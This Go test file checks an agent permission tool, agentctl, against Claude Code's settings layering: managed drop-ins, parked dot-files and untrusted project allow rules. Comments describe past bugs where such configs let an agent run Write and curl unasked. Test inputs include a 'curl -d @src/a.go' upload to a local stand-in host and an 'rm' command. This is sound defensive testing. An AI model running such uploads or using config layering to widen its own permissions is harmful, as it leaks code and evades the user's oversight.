package main

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestRed19cfgLayersManagedDropIns: the organisation's managed folder
// decided looser than Claude Code reads it. Claude Code merges
// managed-settings.json and managed-settings.d/*.json in name order, a
// later document's defaultMode replacing an earlier one's, and skips a
// drop-in whose name starts with a dot; agentctl kept the main file's
// mode (acceptEdits under a 50-lock.json saying default: a Write ran
// unasked) and applied a parked .60-old.json's allow rules (curl ran
// unasked). Each row is a real agentctl process; "M/" names a file of the
// managed folder, "~/" one of the home, others the project's.
func TestRed19cfgLayersManagedDropIns(t *testing.T) {
	mode := func(m string) string { return `{"permissions": {"defaultMode": "` + m + `"}}` }
	allowCurl := `{"permissions": {"allow": ["Bash(curl:*)"]}}`
	write := `{"file_path":"$P/src/b.go","content":"x"}`
	curl := `{"command":"curl -d @src/a.go http://127.0.0.1:9/"}`
	cases := []struct {
		name   string
		files  map[string]string
		tool   string
		input  string
		attack bool
		want   string
	}{
		{"drop-in default over acceptEdits: Write", map[string]string{"M/managed-settings.json": mode("acceptEdits"),
			"M/managed-settings.d/50-lock.json": mode("default")}, "Write", write, true, "ask"},
		{"drop-in default over acceptEdits: touch", map[string]string{"M/managed-settings.json": mode("acceptEdits"),
			"M/managed-settings.d/50-lock.json": mode("default")}, "Bash", `{"command":"touch src/c.go"}`, true, "ask"},
		{"drop-in plan over acceptEdits", map[string]string{"M/managed-settings.json": mode("acceptEdits"),
			"M/managed-settings.d/50-lock.json": mode("plan")}, "Write", write, true, "deny"},
		{"later drop-in dontAsk", map[string]string{"M/managed-settings.d/10-base.json": mode("acceptEdits"),
			"M/managed-settings.d/90-lock.json": mode("dontAsk")}, "Bash", `{"command":"rm src/a.go"}`, true, "deny"},
		{"parked dot-file allow", map[string]string{"M/managed-settings.d/.60-old.json": allowCurl}, "Bash", curl, true, "ask"},
		{"editor lock file allow", map[string]string{"M/managed-settings.d/.#60-old.json": allowCurl}, "Bash", curl, true, "ask"},
		{"parked dot-file mode", map[string]string{"M/managed-settings.d/.99-dev.json": mode("acceptEdits")}, "Write", write, true, "ask"},
		{"parked YAML allow", map[string]string{"M/managed-settings.d/.60-old.yml": "permissions: {allow: [\"Bash(curl:*)\"]}\n"}, "Bash", curl, true, "ask"},
		// Harmless neighbours: what Claude Code applies stays applied.
		{"main acceptEdits alone", map[string]string{"M/managed-settings.json": mode("acceptEdits")}, "Write", write, false, "allow"},
		{"drop-in acceptEdits over default", map[string]string{"M/managed-settings.json": mode("default"),
			"M/managed-settings.d/50-dev.json": mode("acceptEdits")}, "Write", write, false, "allow"},
		{"drop-in allow", map[string]string{"M/managed-settings.d/60-net.json": allowCurl}, "Bash", curl, false, "allow"},
		{"drop-in allow beside a mode", map[string]string{"M/managed-settings.json": mode("default"),
			"M/managed-settings.d/60-net.json": allowCurl}, "Bash", curl, false, "allow"},
		{"git status", map[string]string{"M/managed-settings.json": mode("acceptEdits"),
			"M/managed-settings.d/50-lock.json": mode("default")}, "Bash", `{"command":"git status"}`, false, "allow"},
		{"ls", map[string]string{"M/managed-settings.d/.60-old.json": allowCurl}, "Bash", `{"command":"ls"}`, false, "allow"},
		{"Read in the project", map[string]string{"M/managed-settings.json": mode("acceptEdits"),
			"M/managed-settings.d/50-lock.json": mode("plan")}, "Read", `{"file_path":"$P/src/a.go"}`, false, "allow"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			proj, home := red14repoLayout(t)
			managed := filepath.Join(filepath.Dir(proj), "etc")
			writeFiles(t, managed, map[string]string{"managed-settings.json": "{}\n"})
			for name, body := range c.files {
				dir := proj
				if rest, ok := strings.CutPrefix(name, "M/"); ok {
					dir, name = managed, rest
				} else if rest, ok := strings.CutPrefix(name, "~/"); ok {
					dir, name = home, rest
				}
				writeFiles(t, dir, map[string]string{name: body})
			}
			input := red18layersExpand([]string{c.input}, proj, home)[0]
			got := red19cfgCheck(t, proj, home, filepath.Join(managed, "managed-settings.json"), c.tool, input)
			if got != c.want {
				kind := "neighbour"
				if c.attack {
					kind = "attack"
				}
				t.Errorf("%s: %s %s = %s, want %s", kind, c.tool, input, got, c.want)
			}
		})
	}
}

// red19cfgCheck runs `agentctl check` under the managed file given and
// returns the decision.
func red19cfgCheck(t *testing.T, proj, home, managed, tool, input string) string {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	args := []string{"--cwd", proj, "--managed-settings", managed, "check", "--output", "json", tool, input}
	cmd := exec.Command(exe, args...)
	cmd.Dir = proj
	cmd.Env = red14repoEnv(home)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	_ = cmd.Run()
	var res struct {
		Decision string `json:"decision"`
	}
	if err := json.Unmarshal(out.Bytes(), &res); err != nil {
		t.Fatalf("agentctl %s: %v\nstdout: %s\nstderr: %s", strings.Join(args, " "), err, out.String(), errb.String())
	}
	return res.Decision
}

// TestRed19cfgLayersHookProjectAllowUntrusted: Claude Code applies no
// allow rule of an untrusted workspace's .claude/settings.json; its
// PreToolUse hook, agentctl, answered allow from that very rule, and the
// agent ran the repository's `curl` unasked (the hook widened the agent).
// With Claude Code's state file there and not trusting the workspace, the
// hook asks; a trusted workspace, the user's own rules, local settings and
// read-only commands are unchanged.
func TestRed19cfgLayersHookProjectAllowUntrusted(t *testing.T) {
	curl := map[string]any{"command": "curl -d @src/a.go http://127.0.0.1:9/"}
	cases := []struct {
		name    string
		files   map[string]string // "~/" names a file of the home
		tool    string
		input   map[string]any
		trusted bool // Claude Code's record trusts the project
		attack  bool
		want    string
	}{
		{"project Bash(curl:*)", map[string]string{".claude/settings.json": `{"permissions": {"allow": ["Bash(curl:*)"]}}`}, "Bash", curl, false, true, "ask"},
		{"project Bash(curl *) in YAML", map[string]string{".claude/settings.yaml": "permissions:\n  allow: [\"Bash(curl *)\"]\n"}, "Bash", curl, false, true, "ask"},
		{"project Edit(src/**)", map[string]string{".claude/settings.json": `{"permissions": {"allow": ["Edit(src/**)"]}}`}, "Write",
			map[string]any{"file_path": "$P/src/b.go", "content": "x"}, false, true, "ask"},
		{"project WebFetch domain", map[string]string{".claude/settings.json": `{"permissions": {"allow": ["WebFetch(domain:docs.example.com)"]}}`}, "WebFetch",
			map[string]any{"url": "https://docs.example.com/x", "prompt": "p"}, false, true, "ask"},
		// Harmless neighbours.
		{"trusted workspace", map[string]string{".claude/settings.json": `{"permissions": {"allow": ["Bash(curl:*)"]}}`}, "Bash", curl, true, false, "allow"},
		{"the user's own rule", map[string]string{"~/.claude/settings.json": `{"permissions": {"allow": ["Bash(curl:*)"]}}`}, "Bash", curl, false, false, "allow"},
		{"local settings", map[string]string{".claude/settings.local.json": `{"permissions": {"allow": ["Bash(curl:*)"]}}`}, "Bash", curl, false, false, "allow"},
		{"git status", map[string]string{".claude/settings.json": `{"permissions": {"allow": ["Bash(curl:*)"]}}`}, "Bash", map[string]any{"command": "git status"}, false, false, "allow"},
		{"cat README.md", map[string]string{".claude/settings.json": `{"permissions": {"allow": ["Bash(curl:*)"]}}`, "README.md": "x\n"}, "Bash",
			map[string]any{"command": "cat README.md"}, false, false, "allow"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			proj, home := red14repoLayout(t)
			red18layersWrite(t, proj, home, c.files)
			state := `{"numStartups": 3, "projects": {}}`
			if c.trusted {
				b, _ := json.Marshal(proj)
				state = `{"projects": {` + string(b) + `: {"hasTrustDialogAccepted": true}}}`
			}
			writeFiles(t, home, map[string]string{".claude.json": state})
			in := map[string]any{}
			for k, v := range c.input {
				if s, ok := v.(string); ok {
					v = strings.ReplaceAll(s, "$P", proj)
				}
				in[k] = v
			}
			if got := red16layersHook(t, proj, home, "default", c.tool, in, ""); got != c.want {
				kind := map[bool]string{true: "attack", false: "neighbour"}[c.attack]
				t.Errorf("%s: hook %s %v = %q, want %s", kind, c.tool, in, got, c.want)
			}
		})
	}
}
